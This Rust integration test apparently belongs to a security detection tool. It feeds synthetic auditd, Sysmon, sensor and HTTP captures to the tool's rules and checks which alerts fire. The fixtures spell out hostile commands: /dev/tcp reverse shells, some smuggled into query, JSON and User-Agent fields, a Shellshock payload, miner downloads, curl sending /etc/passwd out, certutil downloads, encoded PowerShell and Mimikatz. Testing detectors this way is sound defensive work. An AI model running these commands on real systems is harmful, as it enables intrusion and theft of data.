//! Processes as host sensors write them, and commands that requests try to inject: the same rules name both.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

/// A file that goes when the test does.
struct File(PathBuf);

impl File {
    fn new(name: &str, text: &str) -> File {
        let name = format!("portcullis-processes-{}-{name}", std::process::id());
        let path = std::env::temp_dir().join(name);
        std::fs::write(&path, text).unwrap();
        File(path)
    }
}

impl Drop for File {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// The alerts that the rules of the project raise over these captures.
fn replay(files: &[&File]) -> Vec<Value> {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let output = Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args([
            "replay", "--quiet", "--engine", "native", "--json", "--rules",
        ])
        .arg(rules)
        .arg("--")
        .args(files.iter().map(|file| &file.0))
        .output()
        .unwrap();
    let error = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{error}");
    assert_eq!(error, "");
    let out = String::from_utf8(output.stdout).unwrap();
    out.lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn text<'a>(alert: &'a Value, name: &str) -> &'a str {
    alert["ExtendedProperties"][name]
        .as_str()
        .unwrap_or_default()
}

/// What auditd writes of a command line, with its arguments in hexadecimal where they have to be.
fn audit(log: &mut String, serial: usize, image: &str, arguments: &[&str]) {
    let id = format!("msg=audit(1790000000.{serial:03}:{serial})");
    let mut line = format!("argc={}", arguments.len());
    for (at, argument) in arguments.iter().enumerate() {
        if argument
            .chars()
            .all(|char| char.is_ascii_graphic() && char != '"')
        {
            write!(line, " a{at}=\"{argument}\"").unwrap();
        } else {
            write!(line, " a{at}=").unwrap();
            argument
                .bytes()
                .for_each(|byte| write!(line, "{byte:02X}").unwrap());
        }
    }
    writeln!(
        log,
        "type=SYSCALL {id}: arch=c000003e syscall=59 success=yes ppid=1 pid={serial} uid=33 exe=\"{image}\""
    )
    .unwrap();
    writeln!(log, "type=EXECVE {id}: {line}\ntype=EOE {id}:").unwrap();
}

#[test]
fn each_type_of_command_is_raised_from_what_sensors_write() {
    let mut auditd = String::new();
    let commands: [(&str, &[&str]); 9] = [
        (
            "/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
        ),
        (
            "/usr/bin/wget",
            &["wget", "http://198.51.100.7/xmrig.tar.gz"],
        ),
        (
            "/tmp/xmrig",
            &["./xmrig", "-o", "stratum+tcp://pool.example:3333"],
        ),
        (
            "/usr/bin/curl",
            &["curl", "-o", "/tmp/a", "http://198.51.100.7/a"],
        ),
        (
            "/usr/bin/curl",
            &["curl", "-F", "file=@/etc/passwd", "http://198.51.100.7/"],
        ),
        ("/usr/bin/nslookup", &["nslookup", "xyz.dnslog.cn"]),
        ("/usr/bin/php", &["php", "-r", "system(\"id\");"]),
        ("/bin/bash", &["bash", "-c", "chmod u+s /bin/bash"]),
        ("/dev/shm/.x", &["/dev/shm/.x"]),
    ];
    for (serial, (image, arguments)) in (100..).zip(commands) {
        audit(&mut auditd, serial, image, arguments);
    }
    let event = |image: &str, command: &str| {
        let command = command.replace('&', "&amp;").replace('<', "&lt;");
        format!(
            "<Event xmlns='x'><System><EventID>1</EventID><Computer>web1</Computer></System><EventData>\
             <Data Name='Image'>{image}</Data><Data Name='CommandLine'>{command}</Data></EventData></Event>\n"
        )
    };
    let sysmon = [
        event(r"C:\Windows\System32\cmd.exe", "cmd.exe /c uname -a"),
        event(
            r"C:\Windows\System32\certutil.exe",
            r"certutil -decode a.txt a.exe",
        ),
        event(
            r"C:\Windows\System32\certutil.exe",
            "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
        ),
        event(r"C:\Users\Public\svchost.exe", "svchost.exe -k netsvcs"),
        event(r"C:\Users\a\Downloads\invoice.pdf.exe", "invoice.pdf.exe"),
        event(r"C:\temp\m.exe", "m.exe sekurlsa::logonpasswords"),
    ]
    .concat();
    let json = [
        r#"{"time":"2026-11-22T10:00:00Z","output_fields":{"proc.cmdline":"sh -c cd /tmp; wget http://example.org/x.sh; chmod 777 x.sh; sh x.sh","proc.exepath":"/bin/sh"}}"#,
        r#"{"time":"2026-11-22T10:00:00Z","output_fields":{"proc.cmdline":"sh -c echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d > /tmp/a","proc.exepath":"/bin/sh"}}"#,
        r#"{"process_exec":{"process":{"binary":"/usr/bin/curl","arguments":"https://pastebin.com/raw/abcd1234"}},"time":"2026-11-22T10:00:00Z"}"#,
        r#"{"process":{"command_line":"powershell -c \"[Reflection.Assembly]::Load([Convert]::FromBase64String($b))\"","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}}"#,
        r#"{"process":{"command_line":"powershell -noP -sta -w 1 -enc SQBmACgA"}}"#,
        r#"{"process":{"command_line":"powershell -c Invoke-Mimikatz; Get-GPPPassword"}}"#,
    ]
    .join("\n");
    let files = [
        File::new("audit.log", &auditd),
        File::new("sysmon.xml", &sysmon),
        File::new("sensors.json", &json),
    ];
    let alerts = replay(&files.each_ref());
    let raised: BTreeSet<&str> = alerts
        .iter()
        .map(|alert| alert["AlertType"].as_str().unwrap())
        .collect();
    // Section C of the catalogue: all that is seen in processes.
    let all = [
        "AppServices_LinuxCommandOnWindows",
        "AppServices_HighPrivilegeCommand",
        "AppServices_Base64EncodedExecutableInCommandLineParams",
        "AppServices_SuspectDownload",
        "AppServices_SuspectDownloadArtifacts",
        "AppServices_DigitalCurrencyMining",
        "AppServices_CryptoCoinMinerDownload",
        "AppServices_ExecutableDecodedUsingCertutil",
        "AppServices_DownloadUsingCertutil",
        "AppServices_FilelessAttackBehaviorDetection",
        "AppServices_FilelessAttackTechniqueDetection",
        "AppServices_FilelessAttackToolkitDetection",
        "AppServices_DataEgressArtifacts",
        "AppServices_ReverseShell",
        "AppServices_DownloadCodeFromWebsite",
        "AppServices_CurlToDisk",
        "AppServices_CommandlineSuspectDomain",
        "AppServices_SuspectPhp",
        "AppServices_PowerShellPowerSploitScriptExecution",
        "AppServices_KnownCredentialAccessTools",
        "AppServices_ProcessWithKnownSuspiciousExtension",
        "AppServices_SVCHostFromInvalidPath",
    ];
    let missing: Vec<_> = all.iter().filter(|name| !raised.contains(*name)).collect();
    assert!(missing.is_empty(), "{missing:?}");
    // What ran is no attempt.
    assert!(alerts.iter().all(|alert| text(alert, "Stage").is_empty()));
    assert!(
        alerts
            .iter()
            .any(|alert| text(alert, "Image") == "/dev/shm/.x")
    );
}

#[test]
fn what_a_request_tries_to_run_is_named_as_an_attempt() {
    let shell = "127.0.0.1;bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    let encoded = shell
        .replace('%', "%25")
        .replace(' ', "%20")
        .replace('&', "%26");
    let request = |head: &str, body: &str| {
        format!(
            "{head}\r\nHost: shop.example\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let form = "Content-Type: application/x-www-form-urlencoded";
    let json = "Content-Type: application/json";
    let shellshock = "() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'";
    let in_json = serde_json::json!({"host": shell}).to_string();
    // Where the command stands, and the request.
    let requests = [
        (
            "host",
            request(&format!("GET /0?host={encoded} HTTP/1.1"), ""),
        ),
        (
            "host",
            request(
                &format!("POST /1 HTTP/1.1\r\n{form}"),
                &format!("host={encoded}"),
            ),
        ),
        (
            "host",
            request(&format!("POST /2 HTTP/1.1\r\n{json}"), &in_json),
        ),
        (
            "user-agent",
            request(
                &format!("GET /3 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 {shell}"),
                "",
            ),
        ),
        (
            "user-agent",
            request(&format!("GET /4 HTTP/1.1\r\nUser-Agent: {shellshock}"), ""),
        ),
    ];
    let all: String = requests.iter().map(|(_, request)| &request[..]).collect();
    let alerts = replay(&[&File::new("requests.http", &all)]);
    for (at, (name, request)) in requests.iter().enumerate() {
        let of_request = |alert: &&Value| text(alert, "Target").starts_with(&format!("/{at}"));
        let of_request: Vec<&Value> = alerts.iter().filter(of_request).collect();
        let find = |kinds: &[&str]| {
            let mut alerts = of_request.iter();
            let found = alerts.find(|alert| kinds.contains(&alert["AlertType"].as_str().unwrap()));
            found.unwrap_or_else(|| panic!("{request}: {of_request:#?}"))
        };
        let attempt = find(&["AppServices_ReverseShell"]);
        assert_eq!(text(attempt, "Stage"), "attempt", "{request}");
        assert_eq!(text(attempt, "Field"), "CommandLine", "{request}");
        assert_eq!(text(attempt, "FieldName"), *name, "{request}");
        assert!(text(attempt, "Evidence").contains("/dev/tcp/"), "{request}");
        // The request is an attack as well, and that is no attempt of a later stage.
        let injection = find(&["Gateway_CommandInjection", "AppServices_UserAgentInjection"]);
        assert_eq!(text(injection, "Stage"), "", "{request}");
    }
}
